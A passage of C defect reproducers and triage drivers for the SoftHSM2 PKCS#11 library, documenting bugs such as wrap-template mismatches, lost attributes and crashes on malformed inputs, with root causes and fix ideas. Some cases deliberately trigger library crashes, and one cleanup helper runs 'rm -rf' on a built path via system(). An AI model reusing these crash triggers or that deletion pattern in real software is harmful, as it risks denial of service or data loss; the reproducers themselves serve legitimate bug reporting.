 printf("%s\n",bad?"BROKEN: the copy does not carry the attributes of the source":"copy is complete"); return bad; }
