// Throwaway triage driver: replays candidate defects F1..F13 against the built library. Not a registered check.
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <dlfcn.h>
#include <unistd.h>
#include <sys/wait.h>
#include "cryptoki.h"
static CK_FUNCTION_LIST_PTR p;
#define CK(x) do{ CK_RV _r=(x); if(_r!=CKR_OK){ printf("  %s -> 0x%lx\n", #x, _r); } }while(0)
static CK_BBOOL T=CK_TRUE, F_=CK_FALSE;
static CK_SLOT_ID slot;
static const char* SOPIN="12345678"; static const char* PIN="1234";
static void load(){ void*h=dlopen("/repo/_build/src/lib/libsofthsm2.so",RTLD_NOW); if(!h){puts(dlerror());exit(2);} CK_C_GetFunctionList g=(CK_C_GetFunctionList)dlsym(h,"C_GetFunctionList"); g(&p); }
static void init_token(){ CK_RV rv=p->C_Initialize(NULL); if(rv){printf("init 0x%lx\n",rv);exit(2);} CK_ULONG n=8; CK_SLOT_ID s[8]; p->C_GetSlotList(CK_TRUE,s,&n); CK_UTF8CHAR label[32]; memset(label,' ',32); memcpy(label,"t",1);
  CK(p->C_InitToken(s[n-1],(CK_UTF8CHAR_PTR)SOPIN,8,label)); n=8; p->C_GetSlotList(CK_TRUE,s,&n); slot=s[0];
  CK_SESSION_HANDLE h; CK(p->C_OpenSession(slot,CKF_SERIAL_SESSION|CKF_RW_SESSION,NULL,NULL,&h)); CK(p->C_Login(h,CKU_SO,(CK_UTF8CHAR_PTR)SOPIN,8)); CK(p->C_InitPIN(h,(CK_UTF8CHAR_PTR)PIN,4)); CK(p->C_Logout(h)); CK(p->C_CloseSession(h)); }
static CK_SESSION_HANDLE user_session(){ CK_SESSION_HANDLE h; CK(p->C_OpenSession(slot,CKF_SERIAL_SESSION|CKF_RW_SESSION,NULL,NULL,&h)); CK(p->C_Login(h,CKU_USER,(CK_UTF8CHAR_PTR)PIN,4)); return h; }
static CK_ULONG count_all(CK_SESSION_HANDLE h){ CK_OBJECT_HANDLE o[64]; CK_ULONG n=0,t=0; CK(p->C_FindObjectsInit(h,NULL,0)); do{ p->C_FindObjects(h,o,64,&n); t+=n; }while(n==64); p->C_FindObjectsFinal(h); return t; }
static CK_OBJECT_HANDLE aes(CK_SESSION_HANDLE h, CK_BBOOL tok, CK_BBOOL priv, CK_BBOOL sens, CK_BBOOL extr){ CK_MECHANISM m={CKM_AES_KEY_GEN,NULL,0}; CK_ULONG len=32; CK_OBJECT_HANDLE k=0;
  CK_ATTRIBUTE t[]={{CKA_TOKEN,&tok,1},{CKA_PRIVATE,&priv,1},{CKA_SENSITIVE,&sens,1},{CKA_EXTRACTABLE,&extr,1},{CKA_VALUE_LEN,&len,sizeof len},{CKA_SIGN,&T,1},{CKA_ENCRYPT,&T,1},{CKA_DERIVE,&T,1}}; CK(p->C_GenerateKey(h,&m,t,8,&k)); return k; }
static void rsa(CK_SESSION_HANDLE h, CK_OBJECT_HANDLE*pub, CK_OBJECT_HANDLE*prv){ CK_MECHANISM m={CKM_RSA_PKCS_KEY_PAIR_GEN,NULL,0}; CK_ULONG bits=1024; CK_BYTE e[]={1,0,1};
  CK_ATTRIBUTE pt[]={{CKA_MODULUS_BITS,&bits,sizeof bits},{CKA_PUBLIC_EXPONENT,e,3},{CKA_ENCRYPT,&T,1},{CKA_VERIFY,&T,1},{CKA_TOKEN,&F_,1}}; CK_ATTRIBUTE vt[]={{CKA_SIGN,&T,1},{CKA_DECRYPT,&T,1},{CKA_TOKEN,&F_,1},{CKA_PRIVATE,&T,1}};
  CK(p->C_GenerateKeyPair(h,&m,pt,5,vt,4,pub,prv)); }
int main(int argc,char**argv){ const char*t=argv[1]; load();
 if(!strcmp(t,"setup")){ init_token(); puts("token ready"); return 0; }
 CK(p->C_Initialize(NULL)); CK_ULONG n=8; CK_SLOT_ID s[8]; p->C_GetSlotList(CK_TRUE,s,&n); slot=s[0]; CK_SESSION_HANDLE h=user_session();
 if(!strcmp(t,"F1")){ CK_ULONG before=count_all(h); CK_OBJECT_CLASS c=CKO_DATA; CK_BYTE v[]="x"; CK_ULONG bad=7; CK_OBJECT_HANDLE o=0;
   CK_ATTRIBUTE tt[]={{CKA_CLASS,&c,sizeof c},{CKA_TOKEN,&T,1},{CKA_PRIVATE,&F_,1},{CKA_VALUE,v,1},{CKA_MODULUS_BITS,&bad,sizeof bad}};
   CK_RV rv=p->C_CreateObject(h,tt,5,&o); printf("F1 C_CreateObject(token, invalid attr) rv=0x%lx; objects before=%lu after=%lu\n",rv,before,count_all(h));
   tt[1].pValue=&F_; before=count_all(h); rv=p->C_CreateObject(h,tt,5,&o); printf("F1 C_CreateObject(session, invalid attr) rv=0x%lx; objects before=%lu after=%lu\n",rv,before,count_all(h)); }
 if(!strcmp(t,"F2")){ CK_OBJECT_CLASS c=CKO_DATA; CK_OBJECT_HANDLE o=0; CK_ATTRIBUTE tt[]={{CKA_CLASS,&c,sizeof c},{CKA_TOKEN,&F_,1},{CKA_PRIVATE,&F_,1},{CKA_LABEL,"old",3}}; CK(p->C_CreateObject(h,tt,4,&o));
   CK_OBJECT_CLASS c2=CKO_SECRET_KEY; CK_ATTRIBUTE st[]={{CKA_LABEL,"NEW",3},{CKA_CLASS,&c2,sizeof c2}}; CK_RV rv=p->C_SetAttributeValue(h,o,st,2); char buf[8]={0}; CK_ATTRIBUTE g={CKA_LABEL,buf,8}; p->C_GetAttributeValue(h,o,&g,1);
   printf("F2 session object: C_SetAttributeValue([LABEL=NEW, CLASS=bad]) rv=0x%lx; label afterwards='%.*s'\n",rv,(int)g.ulValueLen,buf);
   tt[1].pValue=&T; CK(p->C_CreateObject(h,tt,4,&o)); rv=p->C_SetAttributeValue(h,o,st,2); memset(buf,0,8); g.ulValueLen=8; p->C_GetAttributeValue(h,o,&g,1); printf("F2 token object:   rv=0x%lx; label afterwards='%.*s'\n",rv,(int)g.ulValueLen,buf); }
 if(!strcmp(t,"F345")){ CK_OBJECT_HANDLE pub,prv; rsa(h,&pub,&prv); CK_MECHANISM m={CKM_RSA_PKCS,NULL,0};
   printf("F3 (config removes CKM_RSA_PKCS) C_EncryptInit(CKM_RSA_PKCS)=0x%lx  C_SignInit(CKM_RSA_PKCS)=0x%lx\n",p->C_EncryptInit(h,&m,pub),p->C_SignInit(h,&m,prv));
   CK_SESSION_HANDLE h2; p->C_OpenSession(slot,CKF_SERIAL_SESSION|CKF_RW_SESSION,NULL,NULL,&h2); CK_MECHANISM d={CKM_SHA256,NULL,0}; printf("F4 (config removes CKM_SHA256, CKM_AES_KEY_GEN) C_DigestInit(SHA256)=0x%lx ",p->C_DigestInit(h2,&d));
   CK_MECHANISM g={CKM_AES_KEY_GEN,NULL,0}; CK_ULONG len=16; CK_ATTRIBUTE gt[]={{CKA_VALUE_LEN,&len,sizeof len},{CKA_TOKEN,&F_,1}}; CK_OBJECT_HANDLE k=0; printf("C_GenerateKey(AES_KEY_GEN)=0x%lx\n",p->C_GenerateKey(h2,&g,gt,2,&k)); }
 if(!strcmp(t,"F5")){ CK_OBJECT_HANDLE k=aes(h,CK_FALSE,CK_TRUE,CK_TRUE,CK_FALSE); CK_MECHANISM m={CKM_SHA256_RSA_PKCS,NULL,0}; CK_RV rv=p->C_SignInit(h,&m,k); printf("F5 C_SignInit(CKM_SHA256_RSA_PKCS, AES key)=0x%lx\n",rv);
   if(rv==CKR_OK){ fflush(stdout); pid_t c=fork(); if(!c){ CK_BYTE sig[512]; CK_ULONG sl=512; CK_RV r=p->C_Sign(h,(CK_BYTE_PTR)"abc",3,sig,&sl); printf("   C_Sign rv=0x%lx len=%lu\n",r,sl); fflush(stdout); _exit(0);} int st; waitpid(c,&st,0); printf("   child: %s %d\n",WIFSIGNALED(st)?"signal":"exit",WIFSIGNALED(st)?WTERMSIG(st):WEXITSTATUS(st)); } }
 if(!strcmp(t,"F6")){ CK_OBJECT_HANDLE a=aes(h,CK_FALSE,CK_TRUE,CK_TRUE,CK_FALSE), b=aes(h,CK_FALSE,CK_TRUE,CK_TRUE,CK_FALSE); CK_MECHANISM m={CKM_CONCATENATE_BASE_AND_KEY,&b,sizeof b}; CK_OBJECT_HANDLE d=0; CK_ATTRIBUTE dt[]={{CKA_TOKEN,&F_,1}};
   CK_RV rv=p->C_DeriveKey(h,&m,a,dt,1,&d); CK_BBOOL as=9,ne=9,se=9,ex=9; CK_ATTRIBUTE g[]={{CKA_ALWAYS_SENSITIVE,&as,1},{CKA_NEVER_EXTRACTABLE,&ne,1},{CKA_SENSITIVE,&se,1},{CKA_EXTRACTABLE,&ex,1}}; p->C_GetAttributeValue(h,d,g,4);
   CK_BBOOL a_as=9,a_ne=9; CK_ATTRIBUTE ga[]={{CKA_ALWAYS_SENSITIVE,&a_as,1},{CKA_NEVER_EXTRACTABLE,&a_ne,1}}; p->C_GetAttributeValue(h,a,ga,2);
   printf("F6 base keys: ALWAYS_SENSITIVE=%d NEVER_EXTRACTABLE=%d (both keys generated sensitive, unextractable)\n   derived (rv=0x%lx): SENSITIVE=%d EXTRACTABLE=%d ALWAYS_SENSITIVE=%d NEVER_EXTRACTABLE=%d\n",a_as,a_ne,rv,se,ex,as,ne);
   CK_OBJECT_HANDLE c1=aes(h,CK_FALSE,CK_TRUE,CK_TRUE,CK_TRUE), c2=aes(h,CK_FALSE,CK_TRUE,CK_TRUE,CK_TRUE); m.pParameter=&c2; rv=p->C_DeriveKey(h,&m,c1,dt,1,&d); p->C_GetAttributeValue(h,d,g,4);
   printf("   base keys sensitive+EXTRACTABLE (never_extractable=false): derived ALWAYS_SENSITIVE=%d NEVER_EXTRACTABLE=%d\n",as,ne); }
 if(!strcmp(t,"F78")){ CK_OBJECT_CLASS c=CKO_SECRET_KEY; CK_KEY_TYPE kt=CKK_AES; CK_BYTE v[16]={1,2,3}; CK_DATE dt; memcpy(&dt,"20200101",8); CK_OBJECT_HANDLE o=0;
   CK_ATTRIBUTE tt[]={{CKA_CLASS,&c,sizeof c},{CKA_KEY_TYPE,&kt,sizeof kt},{CKA_TOKEN,&T,1},{CKA_PRIVATE,&T,1},{CKA_VALUE,v,16},{CKA_START_DATE,&dt,8},{CKA_LABEL,"datekey",7}};
   CK_RV rv=p->C_CreateObject(h,tt,7,&o); char buf[8]; CK_ATTRIBUTE g={CKA_START_DATE,buf,8}; CK_RV r2=p->C_GetAttributeValue(h,o,&g,1); printf("F7 create private key with CKA_START_DATE rv=0x%lx; C_GetAttributeValue(START_DATE)=0x%lx\n",rv,r2);
   CK_ATTRIBUTE ft[]={{CKA_START_DATE,&dt,8}}; CK_RV f1=p->C_FindObjectsInit(h,ft,1); CK_RV f2=p->C_FindObjectsInit(h,NULL,0); printf("F8 C_FindObjectsInit({START_DATE})=0x%lx ; next C_FindObjectsInit(empty)=0x%lx (0x90=OPERATION_ACTIVE)\n",f1,f2); }
 if(!strcmp(t,"F9")){ CK_OBJECT_HANDLE pub,prv; rsa(h,&pub,&prv); CK_MECHANISM m={CKM_RSA_X_509,NULL,0}; CK(p->C_SignInit(h,&m,prv)); fflush(stdout); pid_t c=fork(); if(!c){ CK_BYTE in[200]; memset(in,1,200); CK_BYTE sig[512]; CK_ULONG sl=512; CK_RV r=p->C_Sign(h,in,129,sig,&sl); printf("F9 C_Sign(RSA_X_509, 129 bytes, 1024-bit key) returned 0x%lx\n",r); fflush(stdout); _exit(0);} int st; waitpid(c,&st,0); printf("F9 child: %s %d (library called exit/abort instead of returning)\n",WIFSIGNALED(st)?"signal":"exit",WIFSIGNALED(st)?WTERMSIG(st):WEXITSTATUS(st)); }
 if(!strcmp(t,"F9b")){ CK_OBJECT_HANDLE k=aes(h,CK_FALSE,CK_TRUE,CK_FALSE,CK_TRUE); CK_BBOOL tt=CK_TRUE; CK_ATTRIBUTE ua={CKA_UNWRAP,&tt,1}; p->C_SetAttributeValue(h,k,&ua,1); CK_BYTE iv[16]={0}; CK_MECHANISM m={CKM_AES_CBC_PAD,iv,16}; CK_OBJECT_CLASS c=CKO_SECRET_KEY; CK_KEY_TYPE kt=CKK_AES; CK_ATTRIBUTE ut[]={{CKA_CLASS,&c,sizeof c},{CKA_KEY_TYPE,&kt,sizeof kt},{CKA_TOKEN,&F_,1}}; fflush(stdout); pid_t ch=fork(); if(!ch){ CK_OBJECT_HANDLE o=0; CK_BYTE w[1]; CK_RV r=p->C_UnwrapKey(h,&m,k,w,0,ut,3,&o); printf("F9b C_UnwrapKey(AES_CBC_PAD, zero-length blob) returned 0x%lx\n",r); fflush(stdout); _exit(0);} int st; waitpid(ch,&st,0); printf("F9b child: %s %d\n",WIFSIGNALED(st)?"signal":"exit",WIFSIGNALED(st)?WTERMSIG(st):WEXITSTATUS(st)); }
 if(!strcmp(t,"F13")){ CK_OBJECT_CLASS c=CKO_SECRET_KEY; CK_KEY_TYPE kt=CKK_AES; CK_BYTE v[16]={1}; CK_ATTRIBUTE inner[]={{CKA_EXTRACTABLE,&T,1},{CKA_SENSITIVE,&F_,1}}; CK_OBJECT_HANDLE o=0;
   CK_ATTRIBUTE tt[]={{CKA_CLASS,&c,sizeof c},{CKA_KEY_TYPE,&kt,sizeof kt},{CKA_TOKEN,&F_,1},{CKA_VALUE,v,16},{CKA_WRAP,&T,1},{CKA_WRAP_TEMPLATE,inner,sizeof inner}}; CK(p->C_CreateObject(h,tt,6,&o)); fflush(stdout);
   pid_t ch=fork(); if(!ch){ CK_BBOOL b; CK_ATTRIBUTE out[2]={{CKA_EXTRACTABLE,&b,1},{CKA_SENSITIVE,NULL,0}}; CK_ATTRIBUTE g={CKA_WRAP_TEMPLATE,out,sizeof out}; CK_RV r=p->C_GetAttributeValue(h,o,&g,1); printf("F13 returned 0x%lx\n",r); fflush(stdout); _exit(0);} int st; waitpid(ch,&st,0); printf("F13 C_GetAttributeValue(WRAP_TEMPLATE, inner pValue mixed NULL/non-NULL) child: %s %d\n",WIFSIGNALED(st)?"signal":"exit",WIFSIGNALED(st)?WTERMSIG(st):WEXITSTATUS(st)); }
 if(!strcmp(t,"find")){ printf("objects visible: %lu\n",count_all(h)); }
 return 0; }
