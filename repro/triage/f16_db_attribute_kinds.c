/* F16: DBObject::attributeKind() has no case for CKA_PUBLIC_KEY_INFO and CKA_DESTROYABLE.  Under objectstore.backend=db both are written but, after a
 * restart of the library, read back as non-existent: the SPKI is empty and a non-destroyable object can be destroyed; under backend=file both persist.
 * Needs a library built with -DWITH_OBJECTSTORE_BACKEND_DB=ON.   ./f16 <lib.so> create ; ./f16 <lib.so> check      (token initialised, SO 12345678 / user 1234) */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <dlfcn.h>
#include "cryptoki.h"
static CK_FUNCTION_LIST_PTR p; static CK_BBOOL T=CK_TRUE,F_=CK_FALSE;
#define CK(x) do{ CK_RV r=(x); if(r!=CKR_OK){printf("%s -> 0x%lx\n",#x,r); exit(2);} }while(0)
int main(int argc,char**argv){ void*h=dlopen(argv[1],RTLD_NOW); if(!h){puts(dlerror());return 2;} CK_C_GetFunctionList g=(CK_C_GetFunctionList)dlsym(h,"C_GetFunctionList"); g(&p);
 CK(p->C_Initialize(NULL)); CK_ULONG n=8; CK_SLOT_ID s[8]; CK(p->C_GetSlotList(CK_FALSE,s,&n));
 if(!strcmp(argv[2],"init")){ CK_UTF8CHAR label[32]; memset(label,' ',32); memcpy(label,"f16",3); CK(p->C_InitToken(s[0],(CK_UTF8CHAR_PTR)"12345678",8,label)); CK_SESSION_HANDLE hs; CK(p->C_OpenSession(s[0],CKF_SERIAL_SESSION|CKF_RW_SESSION,NULL,NULL,&hs)); CK(p->C_Login(hs,CKU_SO,(CK_UTF8CHAR_PTR)"12345678",8)); CK(p->C_InitPIN(hs,(CK_UTF8CHAR_PTR)"1234",4)); puts("token ready"); return 0; }
 n=8; CK(p->C_GetSlotList(CK_TRUE,s,&n)); CK_SESSION_HANDLE hs; CK(p->C_OpenSession(s[0],CKF_SERIAL_SESSION|CKF_RW_SESSION,NULL,NULL,&hs)); CK(p->C_Login(hs,CKU_USER,(CK_UTF8CHAR_PTR)"1234",4));
 if(!strcmp(argv[2],"create")){ CK_OBJECT_CLASS c=CKO_PUBLIC_KEY; CK_KEY_TYPE kt=CKK_RSA; CK_BYTE mod[128]; memset(mod,0xC3,128); CK_BYTE e[]={1,0,1}; CK_OBJECT_HANDLE o=0;
   CK_ATTRIBUTE t[]={{CKA_CLASS,&c,sizeof c},{CKA_KEY_TYPE,&kt,sizeof kt},{CKA_TOKEN,&T,1},{CKA_LABEL,"spki",4},{CKA_MODULUS,mod,128},{CKA_PUBLIC_EXPONENT,e,3},{CKA_PUBLIC_KEY_INFO,"abcd",4}};
   CK(p->C_CreateObject(hs,t,7,&o));
   CK_OBJECT_CLASS dc=CKO_DATA; CK_ATTRIBUTE d[]={{CKA_CLASS,&dc,sizeof dc},{CKA_TOKEN,&T,1},{CKA_PRIVATE,&F_,1},{CKA_LABEL,"keepme",6},{CKA_VALUE,"x",1},{CKA_DESTROYABLE,&F_,1}};
   CK(p->C_CreateObject(hs,d,6,&o)); puts("created"); return 0; }
 int bad=0; CK_OBJECT_HANDLE o[2]; CK_ULONG c=0;
 CK_ATTRIBUTE ft[]={{CKA_LABEL,"spki",4}}; CK(p->C_FindObjectsInit(hs,ft,1)); CK(p->C_FindObjects(hs,o,2,&c)); CK(p->C_FindObjectsFinal(hs));
 if(c){ char buf[16]={0}; CK_ATTRIBUTE a={CKA_PUBLIC_KEY_INFO,buf,16}; CK_RV rv=p->C_GetAttributeValue(hs,o[0],&a,1); printf("after restart: CKA_PUBLIC_KEY_INFO rv=0x%lx value='%.*s' (len %ld)\n",rv,(int)(a.ulValueLen<16?a.ulValueLen:0),buf,(long)a.ulValueLen); if(a.ulValueLen!=4) bad++; } else { puts("public key not found"); bad++; }
 CK_ATTRIBUTE fd[]={{CKA_LABEL,"keepme",6}}; c=0; CK(p->C_FindObjectsInit(hs,fd,1)); CK(p->C_FindObjects(hs,o,2,&c)); CK(p->C_FindObjectsFinal(hs));
 if(c){ CK_BBOOL v=9; CK_ATTRIBUTE a={CKA_DESTROYABLE,&v,1}; CK_RV rv=p->C_GetAttributeValue(hs,o[0],&a,1); CK_RV rd=p->C_DestroyObject(hs,o[0]); printf("after restart: CKA_DESTROYABLE rv=0x%lx value=%d; C_DestroyObject -> 0x%lx (%s)\n",rv,v,rd,rd==CKR_OK?"destroyed":"refused"); if(rd==CKR_OK) bad++; } else { puts("data object not found"); bad++; }
 printf("%s\n",bad?"BROKEN: attributes written before the restart are gone":"consistent"); return bad!=0; }
