/*
 * DEFECT 5: a CKA_WRAP_TEMPLATE that contains a byte-string attribute (CKA_ID, CKA_LABEL, ...) can
 *           never be satisfied by a key that is a private object (CKA_PRIVATE = CK_TRUE, the default for
 *           keys): C_WrapKey returns CKR_KEY_NOT_WRAPPABLE although the key matches the template.
 *
 * WHAT IS DONE
 *   An AES wrapping key is created with CKA_WRAP_TEMPLATE = { CKA_ID = "key-7" }.  Four AES target keys
 *   are created: CKA_PRIVATE false/true  x  CKA_ID "key-7" (matches) / "key-8" (does not match).
 *   C_WrapKey(CKM_AES_KEY_WRAP) is called for each of them (user is logged in, all keys extractable).
 *
 * OBSERVED (unmodified tree)
 *   target CKA_PRIVATE=0, CKA_ID matches : rv=0x0
 *   target CKA_PRIVATE=0, CKA_ID differs : rv=0x69 (CKR_KEY_NOT_WRAPPABLE)   correct
 *   target CKA_PRIVATE=1, CKA_ID matches : rv=0x69 (CKR_KEY_NOT_WRAPPABLE)   <-- defect
 *   target CKA_PRIVATE=1, CKA_ID differs : rv=0x69                            correct
 *   (same with CKA_LABEL; templates that contain only CK_BBOOL / CK_ULONG attributes work).
 *
 * EXPECTED
 *   PKCS#11: "CKA_WRAP_TEMPLATE ... the attribute template to match against any keys wrapped using this
 *   wrapping key. Keys that do not match cannot be wrapped."  The private key with CKA_ID "key-7"
 *   matches and has to be wrapped (CKR_OK), exactly like its public twin.
 *
 * ROOT CAUSE
 *   src/lib/SoftHSM.cpp, SoftHSM::C_WrapKey(), lines 6667-6692:
 *       OSAttribute keyAttr = key->getAttribute(it->first);
 *       ByteString v1, v2;
 *       if (!keyAttr.peekValue(v1) || !it->second.peekValue(v2) || (v1 != v2))
 *           return CKR_KEY_NOT_WRAPPABLE;
 *   The comparison is made on the STORED representation.  Byte-string attributes of private objects
 *   are stored encrypted with the token key (P11Attribute::updateAttr(), P11Attributes.cpp:56-70:
 *   "if (isPrivate) token->encrypt(...)", fresh random IV each time), whereas the values inside
 *   CKA_WRAP_TEMPLATE are stored in the clear (P11AttrWrapTemplate::updateAttr(), P11Attributes.cpp:2386-2391).
 *   So v1 is ciphertext, v2 is plaintext and they can never be equal.  C_FindObjectsInit does it right
 *   (SoftHSM.cpp:2025-2034 decrypts before comparing).
 *
 * FIX IDEA
 *   In the loop, when the key is a private object and keyAttr.isByteStringAttribute() with non-zero
 *   size, token->decrypt() the value before comparing (as C_FindObjectsInit does).
 *
 * exit status: 1 = reproduced, 0 = not reproduced, 2 = set-up problem
 */
/* ---- common set-up code (identical in all reproducers) ---- */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <dlfcn.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include "cryptoki.h"

static CK_FUNCTION_LIST_PTR F;
static CK_SESSION_HANDLE S;
static char g_tmpdir[1100];
static CK_BBOOL T_ = CK_TRUE, F_ = CK_FALSE;

#define CHECK(rv, what) do { CK_RV _r = (rv); if (_r != CKR_OK) { fprintf(stderr, "%s:%d %s failed: 0x%lx\n", __FILE__, __LINE__, what, (unsigned long)_r); exit(2);} } while (0)

static void hexdump(const char *label, const unsigned char *p, size_t n)
{
	printf("%s (%zu bytes) ", label, n);
	for (size_t i = 0; i < n; i++) printf("%02x", p[i]);
	printf("\n");
}

/* loads <libdir>/libsofthsm2.so, creates a fresh token in a temp dir, opens a R/W session and logs in as user */
static void setup(const char *libdir)
{
	char path[1024], conf[1024];
	if (!getcwd(path, sizeof path)) exit(2);
	snprintf(g_tmpdir, sizeof g_tmpdir, "%s/tmp.XXXXXX", path);
	if (!mkdtemp(g_tmpdir)) { perror("mkdtemp"); exit(2); }
	snprintf(path, sizeof path, "%s/tokens", g_tmpdir);
	mkdir(path, 0700);
	snprintf(conf, sizeof conf, "%s/softhsm2.conf", g_tmpdir);
	FILE *f = fopen(conf, "w");
	fprintf(f, "directories.tokendir = %s/tokens\nobjectstore.backend = file\nlog.level = ERROR\nslots.removable = false\n", g_tmpdir);
	fclose(f);
	setenv("SOFTHSM2_CONF", conf, 1);
	snprintf(path, sizeof path, "%s/libsofthsm2.so", libdir);
	void *h = dlopen(path, RTLD_NOW);
	if (!h) { fprintf(stderr, "dlopen: %s\n", dlerror()); exit(2); }
	CK_C_GetFunctionList gfl = (CK_C_GetFunctionList)dlsym(h, "C_GetFunctionList");
	CHECK(gfl(&F), "C_GetFunctionList");
	CHECK(F->C_Initialize(NULL), "C_Initialize");
	CK_SLOT_ID slots[8]; CK_ULONG n = 8;
	CHECK(F->C_GetSlotList(CK_FALSE, slots, &n), "C_GetSlotList");
	CK_UTF8CHAR label[32]; memset(label, ' ', 32); memcpy(label, "repro", 5);
	CHECK(F->C_InitToken(slots[0], (CK_UTF8CHAR_PTR)"12345678", 8, label), "C_InitToken");
	n = 8;
	CHECK(F->C_GetSlotList(CK_TRUE, slots, &n), "C_GetSlotList");
	CK_SLOT_ID slot = slots[0];
	for (CK_ULONG i = 0; i < n; i++) {
		CK_TOKEN_INFO ti;
		if (F->C_GetTokenInfo(slots[i], &ti) == CKR_OK && (ti.flags & CKF_TOKEN_INITIALIZED)) { slot = slots[i]; break; }
	}
	CHECK(F->C_OpenSession(slot, CKF_SERIAL_SESSION | CKF_RW_SESSION, NULL, NULL, &S), "C_OpenSession");
	CHECK(F->C_Login(S, CKU_SO, (CK_UTF8CHAR_PTR)"12345678", 8), "C_Login SO");
	CHECK(F->C_InitPIN(S, (CK_UTF8CHAR_PTR)"1234", 4), "C_InitPIN");
	CHECK(F->C_Logout(S), "C_Logout");
	CHECK(F->C_Login(S, CKU_USER, (CK_UTF8CHAR_PTR)"1234", 4), "C_Login user");
}

static void cleanup(void)
{
	char cmd[1200];
	snprintf(cmd, sizeof cmd, "rm -rf '%s'", g_tmpdir);
	if (strstr(g_tmpdir, "/tmp.")) system(cmd);
}

static int get_attr(CK_OBJECT_HANDLE h, CK_ATTRIBUTE_TYPE type, void *buf, size_t *len)
{
	CK_ATTRIBUTE a = {type, buf, *len};
	CK_RV rv = F->C_GetAttributeValue(S, h, &a, 1);
	if (rv != CKR_OK) { *len = 0; return (int)rv; }
	*len = a.ulValueLen;
	return 0;
}
/* ---- end of common set-up code ---- */
static CK_OBJECT_HANDLE mk(int priv, const char *id, CK_ATTRIBUTE *wt, CK_ULONG wtlen)
{
	unsigned char v[16] = {1, 2, 3};
	CK_OBJECT_CLASS cls = CKO_SECRET_KEY; CK_KEY_TYPE kt = CKK_AES;
	CK_ATTRIBUTE t[16] = {
		{CKA_CLASS, &cls, sizeof cls}, {CKA_KEY_TYPE, &kt, sizeof kt}, {CKA_TOKEN, &F_, 1}, {CKA_PRIVATE, priv ? &T_ : &F_, 1}, {CKA_SENSITIVE, &F_, 1}, {CKA_EXTRACTABLE, &T_, 1},
		{CKA_WRAP, &T_, 1}, {CKA_UNWRAP, &T_, 1}, {CKA_VALUE, v, 16}, {CKA_ID, (void*)id, strlen(id)},
	};
	int n = 10;
	if (wt) t[n++] = (CK_ATTRIBUTE){CKA_WRAP_TEMPLATE, wt, wtlen};
	CK_OBJECT_HANDLE h = 0;
	CHECK(F->C_CreateObject(S, t, n, &h), "C_CreateObject");
	return h;
}

int main(int argc, char **argv)
{
	if (argc < 2) { fprintf(stderr, "usage: %s <libdir>\n", argv[0]); return 2; }
	setup(argv[1]);
	CK_ATTRIBUTE wt[] = {{CKA_ID, "key-7", 5}};
	CK_OBJECT_HANDLE wk = mk(0, "wrapper", wt, sizeof wt);
	int bad = 0, sane = 1;
	for (int priv = 0; priv < 2; priv++) for (int match = 1; match >= 0; match--) {
		CK_OBJECT_HANDLE tk = mk(priv, match ? "key-7" : "key-8", NULL, 0);
		CK_MECHANISM m = {CKM_AES_KEY_WRAP, NULL, 0}; unsigned char blob[64]; CK_ULONG bl = sizeof blob;
		CK_RV rv = F->C_WrapKey(S, &m, wk, tk, blob, &bl);
		printf("wrap template {CKA_ID=\"key-7\"}; target key CKA_PRIVATE=%d, CKA_ID=\"%s\" (%s): C_WrapKey rv=0x%lx%s\n", priv, match ? "key-7" : "key-8", match ? "matches" : "differs", rv,
			match && rv ? "   <-- matching key refused" : "");
		if (match && rv == CKR_KEY_NOT_WRAPPABLE && priv) bad++;
		if (!priv && ((match && rv) || (!match && rv != CKR_KEY_NOT_WRAPPABLE))) sane = 0;
	}
	F->C_Finalize(NULL);
	cleanup();
	if (!sane) { printf("the public control keys do not behave as expected\n"); return 2; }
	printf(bad ? "DEFECT REPRODUCED: a private key that matches the wrap template is not wrappable\n" : "not reproduced\n");
	return bad ? 1 : 0;
}
