/*
 * Defect 6 (two small, fully understood violations of the operation protocol)
 *
 * 6a) C_SignFinal / C_VerifyFinal on an operation whose mechanism is single-part only
 *     (CKM_RSA_PKCS, CKM_RSA_X_509, CKM_RSA_PKCS_PSS, CKM_ECDSA, CKM_EDDSA, CKM_DSA)
 *     answer CKR_OPERATION_NOT_INITIALIZED (0x91) - and leave the operation ACTIVE:
 *     the C_SignInit that an application issues after being told "no operation" fails
 *     with CKR_OPERATION_ACTIVE (0x90).  The two answers contradict each other; a
 *     failed call must terminate the operation (C_SignUpdate on the same operation
 *     does: AsymSignUpdate() calls resetOp()).
 *     Root cause: SoftHSM.cpp:4917 (C_SignFinal) and :5842 (C_VerifyFinal)
 *         if (session->getOpType() != SESSION_OP_SIGN || !session->getAllowMultiPartOp())
 *             return CKR_OPERATION_NOT_INITIALIZED;
 *     the second half of the condition is true for an EXISTING operation, and the
 *     function returns without session->resetOp().
 *     Fix idea: test the op type first; for "!getAllowMultiPartOp()" call
 *     session->resetOp() before returning (as AsymSignUpdate/AsymVerifyUpdate do).
 *
 * 6b) AES-GCM decryption reports a length that the mechanism can never need and refuses
 *     a buffer that is exactly large enough: for a ciphertext of n + 16 bytes (128 bit
 *     tag) the plaintext has exactly n bytes, but C_Decrypt(NULL) reports n + 16 and
 *     C_Decrypt with an n byte buffer fails with CKR_BUFFER_TOO_SMALL; the same for
 *     C_DecryptFinal; C_DecryptUpdate - which never returns a single byte in GCM mode -
 *     demands a buffer as large as everything fed so far.
 *     Root cause: SoftHSM.cpp:3299-3310 SymDecrypt() uses ulEncryptedDataLen as the
 *     output size for every mode, :3553-3554 SymDecryptFinal() uses getBufferSize()
 *     (= all bytes buffered, tag included), :3451 SymDecryptUpdate() uses
 *     ulEncryptedDataLen + getBufferSize(); none of them subtracts cipher->getTagBytes()
 *     (the encrypt side does add it: line 2529 and 2801) or knows that the AEAD update
 *     produces nothing (OSSLEVPSymmetricAlgorithm.cpp:418-423).
 *     Fix idea: in GCM mode size = max(0, total - getTagBytes()) in SymDecrypt and
 *     SymDecryptFinal, and 0 in SymDecryptUpdate.
 *
 * usage: repro <dir with libsofthsm2.so>      exit 1 = reproduced, 0 = not
 */
#include "f31_common.h"

int main(int argc, char** argv)
{
	if (argc < 2) { printf("usage: %s <libdir>\n", argv[0]); return 2; }
	setvbuf(stdout, NULL, _IONBF, 0);
	setup(argv[1]);
	init_token();
	CK_SESSION_HANDLE s = open_rw(); login_user(s);
	int a = 0, b = 0;
	CK_RV rv, rv2;

	/* 6a */
	CK_OBJECT_HANDLE pub, priv;
